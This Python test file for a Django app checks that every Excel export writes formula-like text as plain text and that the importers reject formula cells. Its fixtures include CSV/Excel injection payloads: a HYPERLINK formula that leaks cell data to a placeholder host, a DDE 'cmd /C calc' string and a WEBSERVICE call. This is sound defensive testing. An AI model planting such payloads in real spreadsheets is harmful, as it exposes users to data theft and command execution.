"""Excel out carries values, never formulas; Excel in refuses formulas. Every export of every app is read back."""

import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from dangvu.core import xlsx
from dangvu.core.errors import DomainError
from dangvu.dossiers import services as dsvc
from dangvu.evaluations import services as esvc
from dangvu.members.importer import import_members
from dangvu.organizations.models import Organisation
from tests.evaluations.conftest import cycle, user_on  # noqa: F401  (fixtures)
from tests.jobs.helpers import export
from tests.members.conftest import add, people  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"Xem")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
SRC = Path(__file__).resolve().parents[2] / "src" / "dangvu"


def formulas(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))  # not data_only: formulas read as formulas
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]  # fmt: skip


def texts(data: bytes) -> str:
    wb = load_workbook(io.BytesIO(data))
    return "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value)


def test_the_helper_types_formula_like_text_as_text():
    book = xlsx.workbook(write_only=True)
    ws = book.sheet("x")
    ws.append([*HOSTILE, 5, dt.date(2026, 1, 2), "bình thường", "ký tự \x01 lạ"])
    buf = io.BytesIO()
    book.save(buf)
    cells = list(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows(values_only=False))[0]
    assert [c.data_type for c in cells[:6]] == ["s"] * 6
    assert [c.value for c in cells[:4]] == HOSTILE[:4]  # kept exactly: a round trip changes nothing
    assert all(c.quotePrefix for c in cells[:6])  # editing the cell in Excel keeps it text
    assert cells[6].value == 5 and cells[7].value.date() == dt.date(2026, 1, 2)
    assert cells[8].quotePrefix is False and cells[9].value == "ký tự  lạ"


def test_no_app_writes_excel_except_through_the_helper():
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "xlsx.py" and path.parent.name == "core":
            continue
        text = path.read_text()
        if re.search(r"from openpyxl import .*Workbook|WriteOnlyCell|openpyxl\.Workbook|from openpyxl.cell", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


@pytest.fixture
def hostile(admin_user, tree, people, cycle):  # noqa: F811
    """Formula-like text typed wherever a user types: member fields, organisation names, dossier types, a
    decision number; and a decided review, a dossier and audit entries that carry them."""
    from dangvu.members import services as msvc

    duc = people["duc"]
    msvc.member_update(by=admin_user, member=duc, data={"full_name": HYPERLINK, "home_town": HOSTILE[1],
                                                         "notes": HOSTILE[2], "occupation": HOSTILE[3],
                                                         "position": HOSTILE[4]})  # fmt: skip
    Organisation.objects.filter(pk=tree["C1-T2"].pk).update(name="=1+1 Chi bộ")
    cat = dsvc.catalogue_for(tree["C1-T1"].type_id, 2026)
    t = cat.types.first()
    dsvc.type_save(by=admin_user, catalogue=cat, instance=t,
                   data={"code": t.code, "name": "=WEBSERVICE(\"http://x\")", "field": t.field,
                         "keeping": t.keeping, "required_meta": []})  # fmt: skip
    r = cycle(people["hoa"], 2026, score="80", level="good")
    esvc.review_decide(by=admin_user, verdicts=[esvc.Verdict(r, "good")], number="=2+2")
    return duc


EXPORTS = [
    "/members/export/register.xlsx?org=C1",
    "/members/export/list.xlsx?org=C1",
    "/audit/export.xlsx",
    "/meetings/export.xlsx?org=C1",
    "/dossiers/export.xlsx?org=C1&year=2026",
    "/evaluations/export.xlsx?org=C1&year=2026",
]


def test_every_export_reads_back_without_a_formula(hostile, admin_user, client, tree):
    client.force_login(admin_user)
    cat = dsvc.catalogue_for(tree["C1-T1"].type_id, 2026)
    seen = ""
    for url in [*EXPORTS, f"/dossiers/catalogues/{cat.pk}/export.xlsx"]:
        if "/catalogues/" in url:  # a small catalogue: downloaded at once
            r = client.get(url)
            assert r.status_code == 200, url
            data = b"".join(r.streaming_content) if r.streaming else r.content
        else:  # a branch's export: a background job
            data = export(client, url)
        assert formulas(data) == [], url
        seen += texts(data)
    # the hostile text did reach the files, as text
    for s in (HYPERLINK, HOSTILE[1], "=1+1 Chi bộ", '=WEBSERVICE("http://x")', "=2+2"):
        assert s in seen, s


def sheet(rows) -> SimpleUploadedFile:
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile("ds.xlsx", buf.getvalue())


HEAD = ["STT", "Họ và tên", "Giới tính", "Ngày sinh", "Ngày vào Đảng"]


def test_the_member_importer_refuses_formula_cells_with_row_and_column(admin_user, tree):
    f = sheet([HEAD, [1, "Lò Văn Sáng", "Nam", "01/02/1980", "03/02/2010"],
               [2, '=HYPERLINK("http://x/","Xem")', "Nam", "01/02/1981", "03/02/2011"],
               [3, "Lò Thị Mai", "Nữ", "=DATE(1990,1,1)", "03/02/2012"]])  # fmt: skip
    report = import_members(by=admin_user, org=tree["C1-T1"], source=f)
    assert not report.written
    assert [p.vi for p in report.problems] == [
        'Dòng 3, cột «Họ và tên»: ' + xlsx.ERR_FORMULA.format(formula='=HYPERLINK("http://x/","Xem")'),
        "Dòng 4, cột «Ngày sinh»: " + xlsx.ERR_FORMULA.format(formula="=DATE(1990,1,1)"),
    ]
    f.seek(0)
    report = import_members(by=admin_user, org=tree["C1-T1"], source=f, only_valid=True)
    assert report.written and report.created == 1 and report.rejected_rows == 2


def test_a_text_cell_that_looks_like_a_formula_is_data_not_a_formula(admin_user, tree):
    """What our own export wrote (typed text beginning with "=") comes back as the same text."""
    book = xlsx.workbook()
    ws = book.sheet("x")
    ws.append(HEAD)
    ws.append([1, "=Lò Văn Sáng", "Nam", "01/02/1980", "03/02/2010"])
    buf = io.BytesIO()
    book.save(buf)
    report = import_members(by=admin_user, org=tree["C1-T1"], source=SimpleUploadedFile("a.xlsx", buf.getvalue()),
                            dry_run=True)  # fmt: skip
    assert report.ok and report.preview[0]["full_name"] == "=Lò Văn Sáng"


def test_the_catalogue_importer_refuses_formula_cells(admin_user, tree):
    f = sheet([["Mã", "Tên hồ sơ"], ["A1", "Sổ nghị quyết"], ["A2", "=1+1"]])
    with pytest.raises(DomainError, match=r"Dòng 3, cột B: Ô chứa công thức \(«=1\+1»\)"):
        dsvc.catalogue_import(by=admin_user, org_type=tree["C1-T1"].type, year=2027, upload=f)


def test_imports_are_bounded_by_the_row_limit(admin_user, tree, settings):
    settings.DANGVU_IMPORT_MAX_ROWS = 3
    rows = [HEAD] + [[i, f"Người {i}", "Nam", "01/02/1980", "03/02/2010"] for i in range(1, 5)]
    report = import_members(by=admin_user, org=tree["C1-T1"], source=sheet(rows), dry_run=True)
    assert [p.vi for p in report.problems] == ["«Tệp»: Tệp có hơn 3 dòng dữ liệu; hãy chia thành nhiều tệp nhỏ hơn."]
    report = import_members(by=admin_user, org=tree["C1-T1"], source=sheet(rows[:4]), dry_run=True)
    assert report.ok and report.created == 3
    with pytest.raises(DomainError, match="hơn 3 dòng"):
        dsvc.catalogue_import(by=admin_user, org_type=tree["C1-T1"].type, year=2027,
                              upload=sheet([["Mã", "Tên hồ sơ"]] + [[f"A{i}", "x"] for i in range(5)]))  # fmt: skip
